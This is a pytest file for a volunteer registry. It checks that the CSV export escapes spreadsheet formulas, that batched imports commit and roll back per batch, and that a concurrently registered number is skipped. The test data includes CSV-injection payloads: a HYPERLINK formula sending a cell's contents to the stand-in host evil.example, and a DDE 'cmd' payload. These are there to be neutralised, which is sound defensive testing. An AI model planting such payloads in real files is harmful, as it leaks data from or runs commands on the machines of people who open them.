"""The export cannot run formulas in a colleague's spreadsheet and still imports to the same volunteers; an
import stores its volunteers in short batches and copes with a number registered while it runs."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import func, select

from core.batches import BatchFailed, in_batches
from core.db import make_sessionmaker
from core.models import StaffRole
from tests.factories import login, make_staff, make_volunteer
from volunteers.registry import service as registry
from volunteers.registry.importing import read_table
from volunteers.registry.models import Volunteer
from volunteers.registry.rules import validate_rows

TODAY = date(2026, 11, 26)
NOW = datetime(2026, 11, 26, 9, 30, tzinfo=ZoneInfo("Europe/Berlin"))
ATTACKS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1;"Anna")',
    "notes": "-2+3+cmd|' /C calc'!A0",
}


def form(**overrides: str) -> dict[str, str]:
    values = {
        "name": "Anna Müller", "phone": "0176 12345678", "skills": "Kinder", "languages": "Deutsch",
        "municipalities": "Hannover", "availability": "Mo-Fr 08-13", "police_certificate": "03.02.2024",
        "first_aid": "", "max_jobs_per_week": "2", "sms_consent": "ja", "notes": "",
    }  # fmt: skip
    values.update(overrides)
    return values


def test_the_export_neutralises_formulas_and_an_import_of_it_gives_the_same_volunteers(client, db):
    known = registry.municipality_ids(db)
    drafts = [
        registry.draft_from_form(form(**ATTACKS), known, today=TODAY),
        registry.draft_from_form(
            form(name="@SUM(1)", phone="+49 160 9876543", notes="+SUM(A1:A9)"), known, today=TODAY
        ),
        registry.draft_from_form(form(name="Ben Kaya", phone="0151 22223333", notes="'=1+1"), known, today=TODAY),
    ]
    for draft in drafts:
        registry.create(db, draft=draft, now=NOW)
    db.commit()
    login(client, make_staff(db, role=StaffRole.COORDINATOR))

    exported = client.get("/volunteers/export.csv")

    assert exported.status_code == 200
    cells = [
        cell for row in csv.reader(io.StringIO(exported.content.decode("utf-8-sig")), delimiter=";") for cell in row
    ]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert '\'=HYPERLINK("http://evil.example/?"&A1;"Anna")' in cells and "'-2+3+cmd|' /C calc'!A0" in cells
    assert "'+SUM(A1:A9)" in cells and "0160 9876543" in cells and "''=1+1" in cells
    again = validate_rows(read_table(exported.content, "export.csv"), known, today=TODAY)
    assert again.importable
    assert sorted(again.drafts, key=lambda d: d.phone) == sorted(drafts, key=lambda d: d.phone)


def test_in_batches_commits_each_batch_on_its_own_and_reports_progress(engine, db):
    factory = make_sessionmaker(engine)
    progress: list[tuple[int, int]] = []
    pauses: list[float] = []
    numbers = [f"+4917600000{n:03d}" for n in range(7)]

    def work(session, batch):
        for phone in batch:
            session.add(Volunteer(name="X", phone=phone, created_at=NOW, updated_at=NOW))
        return len(batch)

    sizes = in_batches(factory, numbers, 3, work, lambda done, total: progress.append((done, total)),
                       gap=0.25, sleep=pauses.append)  # fmt: skip

    assert sizes == [3, 3, 1] and progress == [(3, 7), (6, 7), (7, 7)] and pauses == [0.25, 0.25]

    def fails_on_second(session, batch):
        work(session, batch)
        if batch[0].endswith("3"):
            raise RuntimeError("database gone")
        return len(batch)

    with pytest.raises(BatchFailed) as failed:
        in_batches(factory, [f"+4917611111{n:03d}" for n in range(6)], 3, fails_on_second, sleep=pauses.append)
    assert failed.value.done == 3 and isinstance(failed.value.__cause__, RuntimeError)
    assert db.scalar(select(func.count()).select_from(Volunteer)) == 7 + 3  # the second batch rolled back


def test_a_number_registered_while_the_import_runs_is_left_out_and_named_and_the_rest_is_stored(engine, db):
    factory = make_sessionmaker(engine)
    known = registry.municipality_ids(db)
    rows = [form(name=f"Person {n}", phone=f"0176 {n:08d}") for n in range(7)]
    preview = validate_rows(rows, known, today=TODAY)
    seen: list[tuple[int, int]] = []

    def someone_registers_number_5_after_the_first_batch(done: int, total: int) -> None:
        seen.append((done, total))
        if done == 3:
            make_volunteer(db, name="Lena Schulz", phone="+4917600000005")

    result = registry.import_in_batches(
        factory, preview=preview, only_valid=False, now=NOW, size=3,
        progress=someone_registers_number_5_after_the_first_batch,
    )  # fmt: skip

    assert seen == [(3, 7), (6, 7), (7, 7)]
    assert len(result.created_ids) == 6
    assert result.skipped == ["Zeile 7: Die Mobilnummer 0176 00000005 ist inzwischen für Lena Schulz eingetragen."]
    db.expire_all()
    assert db.scalar(select(func.count()).select_from(Volunteer)) == 7
    stored = db.scalar(registry.with_rows(select(Volunteer).where(Volunteer.phone == "+4917600000002")))
    assert stored.name == "Person 2" and [s.value for s in stored.skills] and stored.languages == ["Deutsch"]
    assert stored.certificates[0].valid_until == date(2029, 2, 3) and stored.consent_at is not None
